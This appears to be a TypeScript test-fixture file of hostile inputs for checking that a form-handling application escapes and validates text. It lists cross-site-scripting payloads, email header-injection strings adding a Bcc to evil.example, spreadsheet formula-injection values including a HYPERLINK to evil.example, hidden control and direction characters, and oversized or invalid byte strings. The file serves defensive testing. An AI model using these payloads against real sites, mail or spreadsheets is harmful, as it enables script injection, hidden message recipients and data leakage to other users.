/** Text that would act if it were not escaped; the harm checks look for `hostilemark` in places where it acts. */
export const markup: Readonly<Record<string, string>> = {
  'a script': '"><script>hostilemark()</script>',
  'an image that acts': `'><img src=x onerror=hostilemark()>`,
  'a drawing that acts': '</textarea></title><svg/onload=hostilemark()>',
  'an attribute': '" autofocus onfocus="hostilemark()" x="',
  'a link that acts': 'javascript:hostilemark()',
  'a template': '{{hostilemark}} <%= hostilemark %> #{hostilemark} $& $` $1 $<hostilemark>',
}

/** Would become an email’s headers. */
export const headLines: Readonly<Record<string, string>> = {
  'CRLF and a Bcc': 'Riverton\r\nBcc: hostilemark@evil.example\r\nSubject: hostilemark',
  'a lone line feed and a head line': 'Riverton\nX-Hostilemark: 1\n\nhostilemark',
  'a lone carriage return': 'Riverton\rBcc: hostilemark@evil.example',
  'Unicode line ends': 'Riverton\u2028Bcc: hostilemark@evil.example\u2029\u0085X-Hostilemark: 1',
}

export const unseen: Readonly<Record<string, string>> = {
  'a NUL': 'Li\0sle\0',
  'every control character': `Riverton${Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')}\x7f\x80\x9f`,
  'direction overrides': '\u202eelsiL\u202c \u2066\u2067\u2068\u2069\u200f\u061c\u200b\ufeff',
  'thousands of accents': `L${'\u0301\u0316'.repeat(3900)}`,
}

/** Formulas for a spreadsheet. */
export const formulas: Readonly<Record<string, string>> = {
  equals: '=HYPERLINK("http://evil.example/?hostilemark","x")',
  plus: '+1+cmd|hostilemark',
  minus: '-1+hostilemark',
  at: '@SUM(hostilemark)',
  tab: '\t=hostilemark',
  'wide equals': '\uff1d1+hostilemark',
}

/** Longer than any field's limit, and within what a field may have in bytes. */
export const longText: Readonly<Record<string, string>> = {
  '15 KB': 'x'.repeat(15_000),
  '15 KB of markup': '<a "\'&>'.repeat(1900),
}

/** More than the server reads. */
export const hugeText: Readonly<Record<string, string>> = {
  'a million accents': `L${'\u0301\u0316'.repeat(500_000)}`,
  '1 MB': 'x'.repeat(1024 * 1024),
  '1 MB of markup': '<a "\'&>'.repeat(128 * 1024),
}

/** Bytes that are no text. */
export const noText: Readonly<Record<string, Uint8Array>> = {
  'invalid UTF-8': Buffer.from('4c69ff73fe6c65c08080', 'hex'),
  'lone surrogates': Buffer.from('4c69eda080736c65edbfbf', 'hex'),
}
